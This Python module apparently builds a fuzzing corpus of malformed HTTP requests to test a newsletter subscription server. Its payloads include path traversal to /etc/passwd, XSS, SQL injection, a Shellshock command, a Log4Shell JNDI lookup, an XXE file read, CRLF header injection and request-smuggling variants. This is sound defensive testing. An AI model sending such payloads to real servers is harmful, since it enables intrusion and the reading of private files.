"""A corpus of requests that nobody should send us, made from what breaks servers, routers, forms,
tokens and the programs behind them.

They are bytes, since a client of HTTP would not send half of them.
"""

from __future__ import annotations

import gzip
import itertools
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from urllib.parse import quote, urlencode

EVIL = "<script>alert(1)</script>"
FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class Hostile:
    """One request; `answers` are the statuses that may come, none: whatever is no 5xx.

    `spoken`: it is HTTP, so that a page of ours answers, with all its headers. `may_change`: it is
    hostile in its form, and asks for something that whoever has the link may do.
    """

    what: str
    data: bytes
    answers: frozenset[int] = frozenset()
    spoken: bool = True
    may_change: bool = False


def corpus(links: Mapping[str, str], strangers: Sequence[int]) -> list[Hostile]:
    """All of them. `links` are one person's, by their first letter; `strangers` the numbers of
    subscriptions that are not theirs."""
    return [
        *_paths(),
        *_methods(links),
        *_queries(links),
        *_headers(links),
        *_sign_ups(),
        *_tokens(links),
        *_choices(links, strangers),
        *_wires(links),
    ]


def request(
    method: str,
    path: str,
    body: bytes = b"",
    headers: Iterable[tuple[str, str]] = (),
    *,
    kind: str = FORM,
) -> bytes:
    """The bytes of a request that is well formed, as far as its parts are."""
    lines = [f"{method} {path} HTTP/1.1", "Host: news.example.org", "Connection: close"]
    if method not in ("GET", "HEAD"):
        lines += [f"Content-Type: {kind}", f"Content-Length: {len(body)}"]
    lines += [f"{name}: {value}" for name, value in headers]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


def post(path: str, fields: Iterable[tuple[str, str]]) -> bytes:
    """A form, urlencoded."""
    return request("POST", path, urlencode(list(fields), errors="surrogateescape").encode())


# --- Addresses of pages -------------------------------------------------------------------------

_NOWHERE = (
    "/../", "/../../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/config.toml", "/.env",
    "/.git/config", "/wp-login.php", "/admin", "/api/subscribers", "/docs", "/redoc", "/console",
    "/openapi.json", "/static/", "/static/..", "/static/../keys.toml", "/static/..%2fkeys.toml",
    "/static/%2e%2e%2fkeys.toml", "/static/..%5ckeys.toml", "/static/..%252fkeys.toml",
    "/static/%00", "/static/style.css%00.html", "/static//etc/passwd", "/static/" + "x" * 4_000,
    "/lists", "/lists/", "/lists//", "/lists/%20", "/lists/%00", "/lists/hebdo%00",
    "/lists/hebdo/", "/lists/HEBDO", "/lists/hebdo%20", "/lists/hebdo%0d%0aSet-Cookie:%20a=b",
    "/lists/h%C3%A9bdo", "/lists/%ff%fe", "/lists/%ed%a0%80", "/lists/%", "/lists/%zz",
    "/lists/" + quote(EVIL), "/lists/" + quote("' OR '1'='1"), "/lists/" + quote("{{7*7}}"),
    "/lists/" + "x" * 10_000, "/lists/conseil", "/lists/hebdo/..", "/lists/.%2e", "/lists/1",
    "/lists/hebdo;jsessionid=1", "/lists/-1", "/lists/null", "/lists/hebdo%2f", "/lists/*",
    "/archive", "/archive/", "/archive/none", "/archive/conseil", "/archive/hebdo/0",
    "/archive/hebdo/-1", "/archive/hebdo/1.5", "/archive/hebdo/1e3", "/archive/hebdo/" + "9" * 19,
    "/archive/hebdo/" + "9" * 400, "/archive/hebdo/%D9%A1", "/archive/hebdo/0x1", "/archive/%00/1",
    "/v/", "/c/", "/u/", "/p/", "/s/", "/m/", "/subscription/", "/subscription/a",
    "/subscription/a/b", "/subscription/../..", "/subscription/%00/%00", "/data/", "/data/x",
    "/metrics", "/health/", "/favicon.ico%00", "//", "//evil.example/", "//evil.example/%2e%2e",
    "/\\evil.example", "/%5cevil.example", "/%09", "/%0a", "/?", "/%3f", "/%23", "/;/", "/./",
)  # fmt: skip


def _paths() -> Iterator[Hostile]:
    fine = frozenset({200, 301, 302, 307, 308, 400, 404, 405, 410, 414, 422})
    for path in dict.fromkeys(_NOWHERE):
        yield Hostile(f"GET {path[:60]}", request("GET", path), fine)


def _methods(links: Mapping[str, str]) -> Iterator[Hostile]:
    wrong = frozenset({400, 404, 405})
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "BREW", "get", "G@T"):
        for path in ("/", "/lists/hebdo", links["u"]):
            spoken = method.isalpha() and method.isupper()
            yield Hostile(f"{method} {path[:12]}", request(method, path), wrong, spoken)
    for path in ("/", "/health", "/archive/hebdo", "/v/x"):
        yield Hostile(f"POST {path}", post(path, [("do", "leave")]), wrong)
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        for letter in "ucps":
            data = request("GET", links[letter], headers=[(name, "POST")])
            yield Hostile(f"{name} for /{letter}/", data)
    for letter in "ucps":
        path = f"{links[letter]}?do=leave&_method=POST&List-Unsubscribe=One-Click&sure=yes"
        yield Hostile(f"what a POST would say, in a GET of /{letter}/", request("GET", path))
        body = b"List-Unsubscribe=One-Click&do=erase&sure=yes"
        head = [("Content-Type", FORM), ("Content-Length", str(len(body)))]
        yield Hostile(f"a GET of /{letter}/ with a body", request("GET", links[letter], body, head))


def _queries(links: Mapping[str, str]) -> Iterator[Hostile]:
    words = ("", "=", "&&&", "lang", "lang=", "lang=fr&lang=en", "lang[]=fr", "lang[$ne]=fr",
             "lang=" + quote(EVIL), "lang=%00", "lang=%ff", "lang=" + "x" * 8_000, "lang=../en",
             "lang={{7*7}}", "lang=fr%0d%0aX:%20y", "%00=%00", "a" * 8_000, "&".join(["a=b"] * 999),
             quote(EVIL), "next=//evil.example", "redirect=https://evil.example", "lang=FR", "%",
             "lang=en;lang=fr", "x=" + "%00" * 99, "__proto__[x]=1")  # fmt: skip
    for query in words:
        yield Hostile(f"?{query[:40]}", request("GET", f"/lists/hebdo?{query}"))
    for query in words[:12]:
        yield Hostile(f"/p/…?{query[:40]}", request("GET", f"{links['p']}?{query}"))


# --- Headers ----------------------------------------------------------------------------------

_HEADERS = (
    ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "javascript"),
    ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-For", "x" * 4_000),
    ("X-Forwarded-For", "1.1.1.1, " * 500), ("X-Forwarded-For", "::1%eth0"),
    ("X-Forwarded-For", "' OR 1=1"), ("X-Forwarded-For", EVIL), ("X-Forwarded-For", ",,,"),
    ("X-Forwarded-Prefix", "/evil"), ("X-Forwarded-Port", "99999"), ("X-Real-IP", "127.0.0.1"),
    ("Forwarded", "for=evil;host=evil.example"), ("X-Original-URL", "/metrics"),
    ("X-Rewrite-URL", "/metrics"), ("X-Host", "evil.example"), ("True-Client-IP", "127.0.0.1"),
    ("Range", "bytes=0-1,2-3," * 99), ("Range", "bytes=99999999999999-"), ("If-Range", "x"),
    ("If-None-Match", "*"), ("If-Match", "x"), ("If-Modified-Since", "never"),
    ("Accept", "application/json"), ("Accept", "x" * 4_000), ("Accept-Encoding", "zip;q=9"),
    ("Accept-Language", "x" * 4_000), ("Accept-Language", "*;q=nan"), ("Accept-Charset", "utf-7"),
    ("Cookie", "session=" + "x" * 4_000), ("Cookie", "a=b; " * 500), ("Cookie", "\u00e9=\u00e9"),
    ("Authorization", "Basic !!!"), ("Authorization", "Bearer " + "x" * 4_000),
    ("Proxy-Authorization", "Basic x"), ("Proxy", "http://evil.example"), ("Origin", "null"),
    ("Origin", "https://evil.example"), ("Origin", "javascript:1"),
    ("Sec-Fetch-Site", "cross-site"),
    ("Sec-Fetch-Site", EVIL), ("Referer", "https://evil.example"), ("User-Agent", "() { :;}; id"),
    ("User-Agent", "${jndi:ldap://evil.example}"), ("User-Agent", EVIL), ("User-Agent", ""),
    ("Upgrade", "websocket"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQ"), ("TE", "x"),
    ("Expect", "200-maybe"), ("Max-Forwards", "-1"), ("Via", "x" * 4_000), ("DNT", "maybe"),
    ("Priority", "u=99"), ("Early-Data", "1"), ("X-" + "y" * 4_000, "1"), ("List-Unsubscribe", "x"),
    ("Content-Encoding", "gzip"), ("Last-Event-ID", "-1"), ("X-Test", "\u202e\u2028"),
)  # fmt: skip


def _headers(links: Mapping[str, str]) -> Iterator[Hostile]:
    for name, value in _HEADERS:
        what = f"{name}: {value[:30]}"
        yield Hostile(what, request("GET", "/lists/hebdo", headers=[(name, value)]))
        if name.startswith(("X-F", "Origin", "Sec-", "Forw")):
            data = request("GET", links["p"], headers=[(name, value)])
            yield Hostile(f"{what}, /p/", data)


# --- Forms ------------------------------------------------------------------------------------

_NO_ADDRESSES = (
    "", " ", "@", "a", "a@", "@b.example", "a b@c.example", "a@b@c.example", "a@b..example",
    "a@b.example\r\nBcc: x@y.example", "a@b.example\nTo: x@y.example", "a@b.example\0",
    "\0a@b.example", "a\u0085@b.example", "a@b.example,c@d.example", "a@b.example;c@d.example",
    "a@b.example c@d.example", "<a@b.example", '"a@b.example', "mailto:a@b.example", EVIL,
    EVIL + "@b.example", "a@b.example" + EVIL, "' OR '1'='1", "a@b.example'; DROP TABLE x; --",
    "{{7*7}}@", "${7*7}", "$(id)@b example", "a@" + "b" * 64 + ".example", "a" * 65 + "@b.example",
    "x" * 50_000, "a@" + "x" * 50_000, "@" * 999, "é" * 999, "\ud800@b.example", "a＠b.example",
    "a@b.exa\u200bmple", "\u202ea@b.example x", "../../etc/passwd", "a@[999.1.1.1]", "a@1.2.3.4",
)  # fmt: skip


def _sign_ups() -> Iterator[Hostile]:
    here, no = "/lists/hebdo", frozenset({200, 400, 413, 422})
    for text in _NO_ADDRESSES:
        text_ = text.encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape")
        yield Hostile(f"the address {text[:40]!r}", post(here, [("address", text_)]), no)
    bad = {
        "name": ("\r\nBcc: x@y.example", "\0", "x" * 9_999, "a\x85b", "\x1b[2J"),
        "do": ("\0", EVIL, "leave"),
        "website": ("http://spam.example",),
    }
    for field, texts in bad.items():
        for text in texts:
            fields = [("address", ""), (field, text)]
            yield Hostile(f"{field} {text[:20]!r}", post(here, fields), no)
    fine = [("address", "ana@hostile.example")]
    for field in ("name", "topic", "cadence", "list", "lang", "alerts", "step", "token", "form"):
        for text in (EVIL, "{{7*7}}", "' OR 1=1 --", "\u202e", "../../x"):
            what = f"{field} {text!r} with a good address"
            yield Hostile(what, post(here, [*fine, (field, text)]), may_change=True)
    many = [("topic", str(n)) for n in range(150)]
    yield Hostile("150 topics", post(here, [*fine, *many]), may_change=True)
    yield Hostile("5,000 fields", post(here, [("a", "b")] * 5_000), no)
    yield Hostile("two addresses", post(here, [("address", "a"), ("address", "b")]), no)
    for kind, body in (
        ("application/json", b'{"address": "ana@hostile.example"}'),
        ("application/xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
        ("text/plain", b"address=ana@hostile.example"),
        ("", b"address=a"),
        ("multipart/form-data", b"--x\r\n\r\n--x--"),
        ("multipart/form-data; boundary=", b"--\r\n\r\n----"),
        ("multipart/form-data; boundary=x", b"--y\r\n"),
        ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data\r\n\r\na\r\n"),
        ("multipart/form-data; boundary=" + "x" * 999, b"--x--"),
        ("multipart/form-data; boundary=x", b"--x\r\n" * 2_000),
        ("multipart/form-data; boundary=x", _part('name="address"; filename="a.exe"', b"MZ" * 99)),
        ("multipart/form-data; boundary=x", _part('name="address"', b"\xff\xfe\0")),
        ("multipart/form-data; boundary=x", _part('name="address\0"', b"a")),
        ("multipart/form-data; boundary=x", _part('name*=utf-8\'\'address', b"a@b.example")),
        (f"{FORM}; charset=utf-16", "address=ana@hostile.example".encode("utf-16")),
        (f"{FORM}; charset=nonsense", b"address=a"),
        (FORM, b"address=%"), (FORM, b"address=%zz"), (FORM, b"address=%00"), (FORM, b"\0" * 99),
        (FORM, b"\xff\xfe\xfd"), (FORM, b"address=%ff%fe"), (FORM, b"&" * 9_999),
        (FORM, b"=" * 9_999),
        (FORM, b"address[]=a&address[x]=b"), (FORM, b"a=" + b"x" * 60_000), (FORM, b"x" * 65_536),
        (FORM, b"x" * 65_537), (FORM, b"x" * 500_000), (FORM, gzip.compress(b"x" * 9_999)),
    ):  # fmt: skip
        what = f"{kind[:40]!r}: {body[:30]!r}, {len(body)} bytes"
        yield Hostile(what, request("POST", here, body, kind=kind), frozenset({200, 400, 413, 422}))


def _part(disposition: str, content: bytes) -> bytes:
    head = f"--x\r\nContent-Disposition: form-data; {disposition}\r\n\r\n"
    return head.encode() + content + b"\r\n--x--\r\n"


# --- Links ------------------------------------------------------------------------------------


def _tokens(links: Mapping[str, str]) -> Iterator[Hostile]:
    """No link is taken for another, nor is one that somebody has changed."""
    unknown = frozenset({400, 404, 405, 410, 414})
    for letter, path in links.items():
        token = path.rpartition("/")[2]
        said, _, seal = token.rpartition(".")
        wrong = {
            "cut short": token[:-1],
            "longer": token + "A",
            "another signature": f"{said}.{'A' if seal[0] != 'A' else 'B'}{seal[1:]}",
            "another first letter": ("A" if token[0] != "A" else "B") + token[1:],
            "in capitals": token.upper() if token.upper() != token else token.lower(),
            "with a blank": token + "%20",
            "with a NUL": token + "%00",
            "with a line": token + "%0a",
            "twice": token + token,
            "backwards": token[::-1],
            "full stops": ".".join(token),
            "a signature of nothing": f"{said}.",
            "very long": "x" * 9_000,
            "none alg": "eyJhbGciOiJub25lIn0.eyJzdWIiOjF9.",
            "unicode": quote("é" * 40),
            "a number": "1",
        }
        for what, text in wrong.items():
            yield Hostile(f"GET /{letter}/ {what}", request("GET", f"/{letter}/{text}"), unknown)
            if letter != "v" and what in ("cut short", "another signature", "a number"):
                fields = [("do", "leave"), ("List-Unsubscribe", "One-Click"), ("sure", "yes")]
                data = post(f"/{letter}/{text}", fields)
                yield Hostile(f"POST /{letter}/ {what}", data, unknown)
    for (letter, _), (other, path) in itertools.permutations(links.items(), 2):
        text = path.rpartition("/")[2]
        what = f"the link /{other}/ at /{letter}/"
        if letter == "v":
            yield Hostile(f"GET {what}", request("GET", f"/{letter}/{text}"), unknown)
        else:
            fields = [("List-Unsubscribe", "One-Click"), ("do", "erase"), ("sure", "yes")]
            yield Hostile(f"POST {what}", post(f"/{letter}/{text}", fields), unknown)


def _choices(links: Mapping[str, str], strangers: Sequence[int]) -> Iterator[Hostile]:
    """Nobody chooses for others, and nothing that a forwarded issue holds may do is more."""
    choose, own = links["p"], links["s"]
    for number in (*strangers, 0, -1, 2**31, 2**63, 2**200):
        fields = [
            ("subscription", str(number)),
            (f"digests-{number}", ""),
            (f"alerts-{number}", "y"),
        ]
        yield Hostile(f"the preferences of {number}", post(choose, fields))
    for fields in (
        [("do", "erase"), ("sure", "yes")], [("do", "name"), ("name", "Eve")],
        [("do", "move"), ("address", "eve@hostile.example")], [("do", "export")],
    ):  # fmt: skip
        for letter in "pu":
            what = f"{fields[0][1]} by /{letter}/"
            yield Hostile(what, post(links[letter], fields))
    for pause in ("0000-00-00", "2026-13-45", "9999-12-31", "10000-01-01", "-1", "x" * 9_999, "\0",
                  "2026-11-31", "1900-01-01", "2026-W01-1", "٢٠٢٦-١٢-٠١", EVIL):  # fmt: skip
        data = post(choose, [("language", "fr"), ("pause", pause)])
        yield Hostile(f"a pause until {pause[:20]!r}", data, may_change=True)
    for language in ("xx", "../fr", EVIL, "x" * 9_999, "\0", "fr\r\nX: y"):
        data = post(choose, [("language", language)])
        yield Hostile(f"the language {language[:20]!r}", data, may_change=True)
    for join in ("conseil", "ancien", "none", EVIL, "\0", "hebdo"):
        yield Hostile(f"to join {join[:20]!r}", post(choose, [("do", "join"), ("list", join)]))
    for name in ("a\r\nBcc: x@y.example", "\0", "x" * 9_999, "a\x1b[2J", "a\u0085b"):
        yield Hostile(f"the name {name[:20]!r}", post(own, [("do", "name"), ("name", name)]))
    for address in ("", "x", "a@b.example\r\nBcc: x@y.example", "\0@b.example", EVIL, "x" * 9_999):
        data = post(own, [("do", "move"), ("address", address)])
        yield Hostile(f"to move to {address[:20]!r}", data)
    yield Hostile("to erase, not sure", post(own, [("do", "erase")]))
    yield Hostile("to erase, sure is empty", post(own, [("do", "erase"), ("sure", "")]))
    for do in (EVIL, "\0", "ERASE", "erase ", "x" * 9_999):
        for letter in "us":
            yield Hostile(f"to {do[:20]!r} by /{letter}/", post(links[letter], [("do", do)]))


# --- What is no HTTP --------------------------------------------------------------------------


def _wires(links: Mapping[str, str]) -> Iterator[Hostile]:
    leave = f"POST {links['u']} HTTP/1.1\r\nHost: x\r\n".encode()
    body = b"List-Unsubscribe=One-Click"
    get = b"GET / HTTP/1.1\r\nHost: x\r\n"
    for what, data in {
        "nothing": b"", "a line": b"\r\n", "lines": b"\r\n" * 999, "a word": b"HELO x\r\n\r\n",
        "SMTP": b"EHLO x\r\nMAIL FROM:<a@b.example>\r\n", "TLS": b"\x16\x03\x01\x02\x00\x01\x00",
        "SSH": b"SSH-2.0-x\r\n", "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "NULs": b"\0" * 999,
        "all bytes": bytes(range(256)) * 9,
        "HTTP/0.9": b"GET /\r\n",
        "HTTP/9.9": b"GET / HTTP/9.9\r\n\r\n",
        "no version": b"GET / \r\n\r\n", "HTTP/1.1.1": b"GET / HTTP/1.1.1\r\n\r\n",
        "a blank in the path": b"GET /a b HTTP/1.1\r\n\r\n",
        "a NUL in the path": b"GET /\0 HTTP/1.1\r\n\r\n",
        "bytes in the path": b"GET /\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
        "no Host": b"GET / HTTP/1.1\r\n\r\n", "two Hosts": get + b"Host: y\r\n\r\n",
        "a wrong Host": b"GET / HTTP/1.1\r\nHost: a b\xff\r\n\r\n",
        "a header without a colon": get + b"nonsense\r\n\r\n",
        "a header of a blank": get + b" : x\r\n\r\n",
        "a blank before the colon": get + b"X : y\r\n\r\n",
        "a folded header": get + b"X: a\r\n b\r\n\r\n",
        "a NUL in a header": get + b"X: \0\r\n\r\n", "a CR in a header": get + b"X: a\rb\r\n\r\n",
        "LF alone": b"GET / HTTP/1.1\nHost: x\n\n",
        "a header of 200 KB": get + b"X: " + b"y" * 200_000,
        "9,999 headers": get + b"X: y\r\n" * 9_999 + b"\r\n",
        "a path of 200 KB": b"GET /" + b"x" * 200_000,
        "a name of 100 KB": get + b"x" * 100_000 + b": y\r\n\r\n",
        "the whole address": b"GET http://evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n",
        "a proxy's request": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n",
        "a star": b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
        "a negative length": leave + b"Content-Length: -1\r\n\r\n" + body,
        "a length in words": leave + b"Content-Length: many\r\n\r\n" + body,
        "a length with a sign": leave + b"Content-Length: +26\r\n\r\n" + body,
        "a length in hex": leave + b"Content-Length: 0x1a\r\n\r\n" + body,
        "two lengths": leave + b"Content-Length: 26\r\nContent-Length: 0\r\n\r\n" + body,
        "lengths in a list": leave + b"Content-Length: 26, 0\r\n\r\n" + body,
        "an endless length": leave + b"Content-Length: " + b"9" * 40 + b"\r\n\r\n" + body,
        "a length in Arabic": leave + "Content-Length: ٢٦\r\n\r\n".encode() + body,
        "chunks of nonsense": leave + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n" + body,
        "a chunk without an end": leave + b"Transfer-Encoding: chunked\r\n\r\nfffffff\r\n" + body,
        "another encoding": leave + b"Transfer-Encoding: gzip\r\n\r\n" + body,
        "half a body": leave + b"Content-Length: 26\r\n\r\nList-Un",
        "half a head": b"POST / HT",
    }.items():  # fmt: skip
        yield Hostile(f"on the wire: {what}", data, spoken=False)
    # Lengths that two readers understand differently smuggle a request past one of them.
    for what, head in {
        "chunked and a length": b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n",
        "chunked, with a tab": b"Content-Length: 4\r\nTransfer-Encoding:\tchunked\r\n\r\n",
        "chunked, misspelled": b"Content-Length: 4\r\nTransfer-Encoding: xchunked\r\n\r\n",
        "chunked twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n",
    }.items():
        smuggled = b"POST /lists/hebdo HTTP/1.1\r\nHost: x\r\n" + head
        data = smuggled + b"0\r\n\r\n" + leave + b"Content-Length: 26\r\n\r\n" + body
        yield Hostile(f"smuggled: {what}", data, spoken=False, may_change=True)
